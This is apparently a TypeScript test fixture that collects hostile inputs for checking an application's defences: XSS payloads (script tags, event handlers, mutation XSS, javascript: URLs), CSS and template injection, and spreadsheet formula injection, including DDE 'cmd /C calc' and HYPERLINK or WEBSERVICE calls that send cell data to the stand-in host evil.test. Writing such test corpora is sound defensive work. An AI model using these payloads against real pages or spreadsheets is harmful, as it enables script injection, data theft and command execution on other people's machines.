/**
 * Texts that could run code in the page or in a spreadsheet of another person. A markup that runs sets the global `ran`,
 * asks `evil.test`, or opens a dialog. No text is longer than 100 characters, so that it fits a position or a department.
 */

/** No such host exists, so each request to it shows that a text ran. */
export const EVIL = "evil.test";

const ELEMENTS = [
  "<script>ran=1</script>",
  "<script src=//evil.test/a.js></script>",
  '"><script>ran=1</script>',
  "'><script>ran=1</script>",
  "</title><script>ran=1</script>",
  "</textarea><script>ran=1</script>",
  "</style><script>ran=1</script>",
  "--><script>ran=1</script>",
  "]]><script>ran=1</script>",
  "<ScRiPt>ran=1</sCrIpT>",
  "<scr<script>ipt>ran=1</script>",
  "<script\u0000>ran=1</script>",
  "<script/x>ran=1</script>",
  "<<script>ran=1//<</script>",
  "<img src=x onerror=ran=1>",
  "<img/src=x/onerror=ran=1>",
  "<img src=x\nonerror\n=\nran=1>",
  "<img src=x onerror=&#114;an=1>",
  "<IMG SRC=//evil.test/a.png>",
  '<img src="x` `<img src=x onerror=ran=1>">',
  "<body onload=ran=1>",
  "<input autofocus onfocus=ran=1>",
  "<a autofocus tabindex=1 onfocus=ran=1>x</a>",
  "<details open ontoggle=ran=1>x</details>",
  "<p onclick=ran=1 onmouseover=ran=1>x</p>",
  "<marquee onstart=ran=1>x</marquee>",
  "<video><source onerror=ran=1></video>",
  "<audio src=x onerror=ran=1>",
  "<iframe srcdoc='<script>top.ran=1</script>'></iframe>",
  "<iframe src=javascript:top.ran=1></iframe>",
  "<iframe src=//evil.test></iframe>",
  "<object data=//evil.test></object>",
  "<embed src=//evil.test>",
  "<meta http-equiv=refresh content=0;url=//evil.test>",
  "<base href=//evil.test/>",
  "<link rel=stylesheet href=//evil.test/a.css>",
  "<form action=//evil.test><button>x</button></form>",
  "<isindex type=image src=x onerror=ran=1>",
] as const;

const FOREIGN = [
  "<svg onload=ran=1>",
  "<svg/onload=ran=1//",
  "<svg><script>ran=1</script></svg>",
  "<svg><script>ran&#61;1</script></svg>",
  "<svg><a xlink:href=javascript:ran=1><text y=9>x</text></a></svg>",
  "<svg><image href=x onerror=ran=1></svg>",
  "<svg><use href=//evil.test/a.svg#x></svg>",
  "<svg><animate onbegin=ran=1 attributeName=x dur=1s>",
  "<svg><foreignObject><img src=x onerror=ran=1></foreignObject></svg>",
  "<math><mtext><img src=x onerror=ran=1></mtext></math>",
  "<math href=javascript:ran=1>x</math>",
] as const;

/** Texts that only the second parser reads as markup. */
const MUTATIONS = [
  "<noscript><p title='</noscript><img src=x onerror=ran=1>'>",
  "<svg></p><style><a id='</style><img src=x onerror=ran=1>'>",
  "<math><mi></p><mglyph><style><!--</style><img title='--><img src=x onerror=ran=1>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran=1>",
  "<template><img src=x onerror=ran=1></template>",
  "<xmp><p title='</xmp><img src=x onerror=ran=1>'>",
  "<noembed><p title='</noembed><img src=x onerror=ran=1>'>",
  "<textarea><p title='</textarea><img src=x onerror=ran=1>'>",
  "<select><template><style><!--</style><a rel='--><img src=x onerror=ran=1>'>",
  "<!--><img src=x onerror=ran=1>-->",
  "<![CDATA[><img src=x onerror=ran=1>]]>",
  "<?xml ><img src=x onerror=ran=1>?>",
  "&lt;img src=x onerror=ran=1&gt;",
  "&amp;lt;img src=x onerror=ran=1&amp;gt;",
] as const;

const STYLES = [
  "<style>@import'//evil.test/a.css'</style>",
  "<style>*{background:url(//evil.test/a)}</style>",
  "<p style=background:url(//evil.test/b)>x</p>",
  "<p style=position:fixed;inset:0;z-index:9999>x</p>",
  "<p style=x:expression(ran=1)>x</p>",
] as const;

const ADDRESSES = [
  "<a href=javascript:ran=1>x</a>",
  "<a href=JaVaScRiPt:ran=1>x</a>",
  "<a href='java\tscript:ran=1'>x</a>",
  "<a href='java\nscript:ran=1'>x</a>",
  "<a href='\u0001javascript:ran=1'>x</a>",
  "<a href=&#106;avascript:ran=1>x</a>",
  "<a href=javascript&colon;ran=1>x</a>",
  "<a href='data:text/html,<script>top.ran=1</script>'>x</a>",
  "<a href=vbscript:ran=1>x</a>",
  "<a href=//evil.test>x</a>",
  "<a href=\\\\evil.test>x</a>",
  "<a href=https://ok.test/ target=_top onclick=ran=1>x</a>",
  "javascript:ran=1",
  "javascript:ran=1//https://ok.test/",
  "data:text/html,<script>ran=1</script>",
  'https://ok.test/"onmouseover=ran=1//',
  "https://user:x@evil.test/",
] as const;

const SIGNS = [
  "\u202e<script>ran=1</script>\u202c",
  "<\u200bscript>ran=1</script>",
  "<scr\u00adipt>ran=1</script>",
  "＜script＞ran=1＜/script＞",
  "\ufeff<script>ran=1</script>x",
  "+ADw-script+AD4-ran=1+ADw-/script+AD4-",
  "%3Cscript%3Eran=1%3C/script%3E",
  "\\u003cscript\\u003eran=1\\u003c/script\\u003e",
  "\u001b[31m<b>x</b>",
] as const;

const TEMPLATES = [
  "{{constructor.constructor('ran=1')()}}",
  "${ran=1}",
  "#{ran=1}",
  "<%= ran=1 %>",
  "{{=1+1}}",
  "$t(name) {{name}} $1 $& %s %o",
  "__proto__",
  "constructor",
] as const;

const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test/?"&A1,"x")',
  '=WEBSERVICE("http://evil.test/")',
  '=IMPORTXML("http://evil.test/","//a")',
  '=IMAGE("http://evil.test/a.png")',
  '",=1+1',
  "x\r\n=1+1",
  ";=1+1;",
  "'=1+1",
  "\u200b=1+1",
  "_x003D_1+1",
] as const;

export const MARKUP: readonly string[] = [
  ...ELEMENTS,
  ...FOREIGN,
  ...MUTATIONS,
  ...STYLES,
  ...ADDRESSES,
  ...SIGNS,
  ...TEMPLATES,
];
export const FORMULA: readonly string[] = FORMULAS;

/** NUL is refused by every call, so the texts for them are without it. */
export const HOSTILE: readonly string[] = [...MARKUP, ...FORMULA].filter(
  (text) => !text.includes("\0"),
);

/** Those that a field of so many characters takes. */
export const hostileUpTo = (length: number): readonly string[] =>
  HOSTILE.filter((text) => text.length <= length);

/** Those that can be the name of a file: no path, and no line end. */
export const HOSTILE_NAMES: readonly string[] = HOSTILE.filter((text) => text.length <= 80).map(
  (text) => `${text.replaceAll(/[/\\\r\n]/g, "_")}.txt`,
);
